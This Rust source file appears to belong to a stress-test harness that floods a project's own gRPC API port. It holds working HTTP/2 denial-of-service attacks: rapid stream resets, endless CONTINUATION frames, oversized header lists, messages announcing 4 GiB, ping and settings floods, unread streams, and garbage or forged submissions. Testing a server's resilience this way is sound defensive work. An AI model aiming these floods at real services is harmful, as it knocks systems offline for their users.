//! Floods of the API's port that speak HTTP/2 or gRPC: resets, endless headers, huge messages, readers that do not read,
//! submissions.

use std::{sync::Arc, time::Duration};

use tanba_crypto::Canonical as _;
use tanba_proto::{
    ledger::v1::{StreamBlocksRequest, ledger_service_client::LedgerServiceClient},
    registrar::v1::{SubmitRequest, registrar_service_client::RegistrarServiceClient},
};
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    time::{sleep, timeout},
};
use tonic::transport::{Channel, Endpoint};

use super::{Attack, Kind, Scene, address_of, connect_from, kind};

/// A pause after the door was closed on an attacker.
const PAUSE: Duration = Duration::from_millis(20);

/// A server that takes nothing for so long has been filled.
const FULL_AFTER: Duration = Duration::from_millis(500);

/// Kinds on the API's port.
pub const KINDS: &[Kind] = &[
    kind("grpc: rapid resets", 8, |scene, n| raw(scene, n, resets)),
    kind("grpc: many calls never finished", 8, |scene, n| raw(scene, n, unfinished)),
    kind("grpc: endless headers", 8, |scene, n| raw(scene, n, endless_headers)),
    kind("grpc: huge header lists", 8, |scene, n| raw(scene, n, huge_headers)),
    kind("grpc: messages that announce 4 GiB", 8, |scene, n| raw(scene, n, oversize)),
    kind("grpc: pings and settings", 8, |scene, n| raw(scene, n, pings)),
    kind("grpc: streams never read", 8, |scene, n| Box::pin(never_read(scene, n))),
    kind("grpc: submissions of garbage", 32, |scene, n| Box::pin(submit(scene, n, garbage))),
    kind("grpc: submissions with bad signatures", 32, |scene, n| Box::pin(submit(scene, n, forged))),
    kind("grpc: good submissions", 32, |scene, n| Box::pin(submit(scene, n, good))),
];

// ------------------------------------------------------------------------------------------- bare HTTP/2

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], stream.to_be_bytes().as_slice(), payload].concat()
}

/// The header list of a call of `Submit`, in HPACK without its tables.
fn call() -> Vec<u8> {
    let path = b"/tanba.registrar.v1.RegistrarService/Submit";
    let mut block = vec![0x83, 0x86, 0x04, path.len() as u8];
    block.extend(path);
    // `:authority` by its index, then a content type.
    block.extend(b"\x01\x09localhost\x00\x0ccontent-type\x10application/grpc");
    block
}

/// A literal header of `bytes` bytes.
fn large_header(bytes: usize) -> Vec<u8> {
    // A length of more than 126 goes on in groups of seven bits (RFC 7541 section 5.1).
    let mut block = b"\x00\x01x\x7f".to_vec();
    let mut rest = bytes - 127;
    while rest >= 128 {
        block.push((rest % 128) as u8 | 0x80);
        rest /= 128;
    }
    block.push(rest as u8);
    block.resize(block.len() + bytes, b'y');
    block
}

/// The bytes of an attack on one connection, by number of the stream.
type Shot = fn(u32) -> Vec<u8>;

/// Fires shots as fast as they are taken, reads nothing but what must be, and connects again when cut.
fn raw(scene: Arc<Scene>, number: usize, shot: Shot) -> Attack {
    Box::pin(async move {
        loop {
            if let Ok(stream) = connect_from(number, scene.grpc).await {
                // Cut off, or full: begin anew.
                let _ = fire(&scene, stream, shot).await;
            }
            sleep(PAUSE).await;
        }
    })
}

async fn fire(scene: &Scene, stream: TcpStream, shot: Shot) -> std::io::Result<()> {
    let (mut from, mut to) = stream.into_split();
    // Answers are read, so that the victim never waits for us by accident.
    let reading = tokio::spawn(async move {
        let mut heard = [0; 4 * 1024];
        while from.read(&mut heard).await.is_ok_and(|read| read > 0) {}
    });
    to.write_all(PREFACE).await?;
    to.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
    for stream in (1u32..).step_by(2) {
        match timeout(FULL_AFTER, to.write_all(&shot(stream))).await {
            Ok(Ok(())) => scene.blow(),
            Ok(Err(_)) | Err(_) => break,
        }
    }
    reading.abort();
    Ok(())
}

fn resets(stream: u32) -> Vec<u8> {
    let opened = frame(HEADERS, END_HEADERS, stream, &call());
    [opened, frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
}

fn unfinished(stream: u32) -> Vec<u8> {
    frame(HEADERS, END_HEADERS, stream, &call())
}

fn endless_headers(stream: u32) -> Vec<u8> {
    if stream == 1 {
        frame(HEADERS, 0, 1, &call())
    } else {
        frame(CONTINUATION, 0, 1, &large_header(8 * 1024))
    }
}

fn huge_headers(stream: u32) -> Vec<u8> {
    let list = [call(), large_header(12 * 1024)].concat();
    frame(HEADERS, END_HEADERS, stream, &list)
}

fn oversize(stream: u32) -> Vec<u8> {
    let announced = [&[0u8, 0xff, 0xff, 0xff, 0xff][..], &[7; 8 * 1024]].concat();
    [frame(HEADERS, END_HEADERS, stream, &call()), frame(0, 0, stream, &announced)].concat()
}

fn pings(stream: u32) -> Vec<u8> {
    [frame(PING, 0, 0, &u64::from(stream).to_be_bytes()), frame(SETTINGS, 0, 0, &[])].concat()
}

// ------------------------------------------------------------------------------------------------- gRPC

async fn channel(scene: &Scene, number: usize) -> Option<Channel> {
    let endpoint = Endpoint::from_shared(format!("http://{}", scene.grpc)).expect("an address");
    endpoint.local_address(Some(address_of(number))).connect().await.ok()
}

/// Opens streams of blocks and reads none of them.
async fn never_read(scene: Arc<Scene>, number: usize) {
    for address in (number * 100..).cycle_within(50) {
        let Some(channel) = channel(&scene, address).await else {
            sleep(PAUSE).await;
            continue;
        };
        let mut held = Vec::new();
        for _ in 0..64 {
            let mut client = LedgerServiceClient::new(channel.clone());
            match client.stream_blocks(StreamBlocksRequest::default()).await {
                Ok(stream) => held.push(stream),
                Err(_) => break,
            }
            scene.blow();
        }
        sleep(Duration::from_secs(1)).await;
    }
}

/// Counting that begins again after `count` numbers.
trait CycleWithin: Iterator<Item = usize> + Sized {
    fn cycle_within(self, count: usize) -> impl Iterator<Item = usize>;
}

impl CycleWithin for std::ops::RangeFrom<usize> {
    fn cycle_within(self, count: usize) -> impl Iterator<Item = usize> {
        (self.start..self.start + count).cycle()
    }
}

/// The bytes of the `n`-th submission.
type Submission = fn(&Scene, usize) -> Vec<u8>;

async fn submit(scene: Arc<Scene>, number: usize, submission: Submission) {
    let mut sent = number;
    loop {
        let Some(channel) = channel(&scene, number / 4).await else {
            sleep(PAUSE).await;
            continue;
        };
        let mut client = RegistrarServiceClient::new(channel);
        for _ in 0..1_000 {
            sent += 7;
            scene.blow();
            let request = SubmitRequest { transaction: submission(&scene, sent) };
            // Refusals are what is wanted; whoever is told to come back does so at once.
            if client.submit(request).await.is_err_and(|status| status.code() == tonic::Code::Unavailable) {
                sleep(PAUSE).await;
                break;
            }
        }
    }
}

fn garbage(_: &Scene, n: usize) -> Vec<u8> {
    vec![n as u8; 100 * 1024]
}

fn forged(scene: &Scene, n: usize) -> Vec<u8> {
    let mut bytes = good(scene, n);
    let last = bytes.len() - 1;
    bytes[last] ^= (n as u8).max(1);
    bytes
}

fn good(scene: &Scene, n: usize) -> Vec<u8> {
    scene.good[n % scene.good.len()].to_canonical()
}
